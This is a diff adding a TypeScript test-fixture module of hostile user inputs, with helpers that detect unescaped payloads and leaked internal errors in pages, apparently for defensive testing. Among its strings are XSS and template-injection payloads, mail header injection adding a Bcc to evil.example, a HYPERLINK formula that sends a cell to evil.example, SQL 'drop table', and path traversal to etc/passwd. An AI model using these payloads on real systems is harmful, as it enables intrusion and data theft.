@@ -1,0 +1,89 @@
+/** What somebody might type to break a screen, a mail, a file or a statement, by what it tries. */
+export const hostileTexts: Readonly<Record<string, string>> = {
+  'an element and the end of an attribute': `Ŋq" onmouseover="ŋq()" '><zq-tag onload=ŋq()>&amp;<!--`,
+  'the end of what stands around': '</script></style></title></textarea><zq-tag>ŋ',
+  'an address that runs': 'javascript:ŋq()//ŋq',
+  'marks of templates': `Ŋq {{7*7}} \${7*7} <%= 7 %> $& $\` [ŋ](javascript:ŋq()) \`ŋ\``,
+  'a header': 'Ŋq\r\nBcc: ngq@evil.example\r\n\r\nŋq',
+  'a header behind rarer ends of lines': 'Ŋq\u0085Bcc: ngq@evil.example\u2028Bcc: ŋq\u2029Bcc: ŋq\u000bBcc: ŋq',
+  'a null byte': 'Ŋq\0ŋq and more text',
+  'commands of a terminal': 'Ŋq \u001b[31mŋq\u0007 \u009b31m',
+  'a formula': '=HYPERLINK("https://evil.example/?q="&A1,"ŋq")',
+  'the end of a statement, and its patterns': "Ŋq'; drop table reviews; -- \\' \" $1 %_ * (a|b) ^ & :*",
+  'halves of signs': 'Ŋq \ud800 ŋq \udc00 ŋq ŋq \ud83d',
+  'text turned around': 'Ŋq \u202egnp.exe\u2066 ŋq \u2069\u200f \u2067ŋq ŋq',
+  'letters that nobody sees': 'Ŋ\u200bq\ufeff \u2060ŋq\u00ad ŋq\u180e ŋq',
+  'nothing but blanks': '\u3164\u3164\u115f\u200b\u2800\u3164',
+  'a tower of accents': `Ŋq ŋ${'\u0301\u0489'.repeat(150)}q ŋq`,
+  'signs of four bytes': 'Ŋq 👩‍👩‍👧‍👦 𠮷 𝒵 🇦🇺 👍🏽 ❤️ 🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f} ŋ',
+  'one sign of four bytes': '😀',
+  'four of them': '😀😀😀😀',
+  'many of them': '😀'.repeat(15),
+  'eighty characters, the last of four bytes': `${'ŋq'.repeat(39)}ŋ😀`,
+  'a hundred and twenty of them': `${'ŋq '.repeat(39)}ŋq😀`,
+  'three thousand of them': `${'ŋq '.repeat(999)}ŋq😀`,
+  'signs that belong to nobody': 'Ŋq \ue000 \uffff \u{10ffff} \ufffe ŋq',
+  'a word without an end': 'ŋq'.repeat(1500),
+  'far too much': 'ŋq '.repeat(20_000),
+  'a way up': '../../..\\..\\etc/passwd%00ŋq',
+  'a word of the language': '__proto__',
+  'JSON and XML': '{"ŋq":"<!DOCTYPE x [<!ENTITY ŋ SYSTEM \\"file:///\\">]>&ŋ;"}',
+  'two addresses': 'ngq@mail.example,"ŋq\r\nBcc:x"@evil.example',
+};
+
+/** A part of each text that stands in nothing of ours, and in no token. */
+export const trace = /[ŋŊ]/;
+
+/** What nobody minds, to learn whether a text is kept at all. */
+export const plainText = 'Ŋq ŋq';
+
+/** Those that are tried where a text is looked up or chosen, and never kept. */
+export const hostileNames: Readonly<Record<string, string>> = Object.fromEntries(
+  [
+    'the end of a statement, and its patterns',
+    'a null byte',
+    'halves of signs',
+    'text turned around',
+    'a header',
+    'one sign of four bytes',
+    'far too much',
+    'a word of the language',
+    'two addresses',
+  ].map((name) => [name, hostileTexts[name]!]),
+);
+
+/** What must stand nowhere in a document or a mail as it is, whichever text was typed. */
+const raw =
+  /<\/?zq-tag|<svg\/onload|<!ENTITY|(?<!\\)" onmouseover="|href="\s*javascript:|href="\s*data:|src="\s*javascript:/i;
+
+/** Where a document holds what was typed as if we had written it; undefined where it is harmless. */
+export function rawPlaceIn(html: string): string | undefined {
+  const found = raw.exec(html);
+  return found ? html.slice(Math.max(0, found.index - 120), found.index + 120) : undefined;
+}
+
+/** What is wrong with a page: that it failed, that it holds what was typed as its own, that its data cannot be read. */
+export function faultsOfDocument({ statusCode, body }: { statusCode: number; body: string }): string[] {
+  const raw = rawPlaceIn(body);
+  const data = [...body.matchAll(/<script[^>]*type="application\/(?:ld\+)?json"[^>]*>(.*?)<\/script>/gs)];
+  return [
+    ...(statusCode >= 500 || body.includes('Oops!') ? [`answered ${statusCode}`] : []),
+    ...(raw ? [`holds ${raw}`] : []),
+    ...data
+      .filter(([, text]) => !isJson(text!))
+      .map(([, text]) => `holds data that cannot be read: ${text!.slice(0, 200)}`),
+  ];
+}
+
+function isJson(text: string): boolean {
+  try {
+    JSON.parse(text);
+    return true;
+  } catch {
+    return false;
+  }
+}
+
+/** Words that only our insides say. */
+export const insides =
+  /violates|relation "|column "|syntax error|invalid byte|unterminated|ECONN|SQL|undefined|\bTypeError|Cannot read propert|\.ts\b|node_modules|Something went wrong/i;
